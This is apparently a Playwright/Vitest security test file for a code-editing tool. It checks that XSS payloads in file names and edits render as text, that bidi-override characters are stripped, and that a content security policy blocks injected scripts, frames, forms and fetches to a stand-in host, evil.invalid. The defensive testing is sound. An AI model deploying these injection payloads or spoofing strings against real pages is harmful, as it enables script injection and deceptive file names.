import type { Page } from "playwright-core"
import { expect, it } from "vitest"
import { editOf, give, newFile } from "./response.ts"
import { visit } from "./stage.ts"

/** Names and words that run, or turn round, wherever a page takes them for more than text. */
const scripts = [
  "<img src=x onerror=window.hacked=1>.txt",
  '"><svg onload=window.hacked=1>.txt',
  "a' autofocus onfocus='window.hacked=1.txt",
  "javascript:window.hacked=1.txt",
  "{{constructor.constructor('window.hacked=1')()}}.txt",
  "<iframe srcdoc=<script>parent.hacked=1<+script>>.txt",
]
/** A file that the disk has, whatever emend would let a model make. */
const turned = "\u202etxt.exe \u2066\u001b[2J.txt"
const raw = /[\u202a-\u202e\u2066-\u2069\u001b]/

/** Nothing ran, nothing was made of what was to be text, and no sign turns what follows it. */
async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => ({
    hacked: "hacked" in window,
    made: document.querySelectorAll(
      "img[src=x], svg[onload], iframe, [onerror], [onfocus], a[href^=javascript]",
    ).length,
    text: document.body.textContent ?? "",
    titles: [...document.querySelectorAll("[title], [aria-label]")].map(
      (each) => `${each.getAttribute("title")} ${each.getAttribute("aria-label")}`,
    ),
  }))
  expect([where, found.hacked, found.made]).toEqual([where, false, 0])
  expect([where, [found.text, ...found.titles].filter((text) => raw.test(text))]).toEqual([where, []])
}

const why = "<img src=x onerror=window.hacked=1> \u202eevil"
const titled = `${why}.\n\n`

it("is text wherever it is shown: tree, filter, palette, rows, drawer, rounds, history, messages", () =>
  visit("server", async ({ page, go, change, text }) => {
    for (const name of [...scripts, turned]) await change(name, "one\n")
    await go("context")
    await page.getByText("<img src=x", { exact: false }).first().waitFor()
    await expectHarmless(page, "the tree")
    for (const name of scripts) await page.locator(`[data-tick=${JSON.stringify(name)}]`).click()
    await expectHarmless(page, "what is chosen")
    await page.locator("#filter").fill("hacked")
    await expectHarmless(page, "the filter")

    await go("apply")
    const edits = scripts.map((name) => editOf(name, ["one\n", `${why}\n`])).join("")
    const lost = editOf(scripts[0]!, [`${why} is not there\nat all\n`, "x\n"])
    await give(page, titled + edits + newFile("b.html", "<script>window.hacked=1</script>\n") + lost)
    await page.locator(".summary", { hasText: /does not fit/ }).waitFor()
    await expectHarmless(page, "the rows and their changes")
    await page.keyboard.press("ControlOrMeta+k")
    const palette = page.getByRole("dialog", { name: "Commands" })
    await palette.getByRole("combobox").fill("img")
    await palette.getByText("<img src=x", { exact: false }).first().waitFor()
    await expectHarmless(page, "the palette")
    await page.keyboard.press("Escape")
    await palette.waitFor({ state: "detached" })
    await page.getByRole("button", { name: "Copy retry prompt" }).click()
    await page.getByText("The retry prompt is on the clipboard.").waitFor()
    await give(page, editOf(scripts[0]!, ["one\n", "<b>two</b>\n"]))
    await page.getByText("Answer 2 goes on with the same task.").waitFor()
    await expectHarmless(page, "the second round")
    await page.locator("#apply").click()
    await page.locator(".summary", { hasText: /applied|landed/ }).waitFor()
    expect(await text(scripts[4]!)).toBe(`${why}\n`)
    await expectHarmless(page, "what was applied")
    await go("history")
    await page.locator(".commits .label").first().waitFor()
    await expectHarmless(page, "the history")
  }))

it("is text in what a folder wants, and whoever looks sees all of it", () =>
  visit(
    "server",
    async ({ page, change }) => {
      const formatters = {
        [`*.<img src=x onerror=window.hacked=1>${turned}`]: ["node", `\u202e${why}`, "the end"],
      }
      await change("emend.config.json", JSON.stringify({ formatters }))
      await page.getByRole("button", { name: "See what it wants…" }).click()
      await page.getByRole("dialog").getByText("the end").waitFor()
      await expectHarmless(page, "what it wants")
    },
    { untrusted: true },
  ))

it("gets no further than the page where something is made of it all the same", () =>
  visit(
    "server",
    async ({ page, served }) => {
      // What an attacker would do who has found a way into the page: each is forbidden by the policy that the server sends.
      const forbidden = await page.evaluate(async () => {
        const blocked: string[] = []
        document.addEventListener("securitypolicyviolation", (event) =>
          blocked.push(event.effectiveDirective),
        )
        const inline = document.createElement("script")
        inline.textContent = "window.hacked = 1"
        document.body.append(inline)
        const foreign = document.createElement("script")
        foreign.src = "https://evil.invalid/x.js"
        document.body.append(foreign)
        const frame = document.createElement("iframe")
        frame.src = "https://evil.invalid/"
        document.body.append(frame)
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 2'>")
        const form = document.createElement("form")
        form.action = "https://evil.invalid/"
        document.body.append(form)
        form.submit()
        await fetch("https://evil.invalid/").catch(() => {})
        for (let tries = 0; tries < 100 && blocked.length < 6; tries++)
          await new Promise((later) => setTimeout(later, 50))
        return { blocked: blocked.sort(), hacked: "hacked" in window, token: location.href.includes("token") }
      })
      expect(forbidden).toMatchObject({ hacked: false, token: false })
      expect(forbidden.blocked).toEqual(
        expect.arrayContaining(["connect-src", "frame-src", "form-action", "script-src-elem"]),
      )
      expect(new URL(page.url()).port).toBe(String(served!.current.port))
    },
    { ignoreErrors: true },
  ))
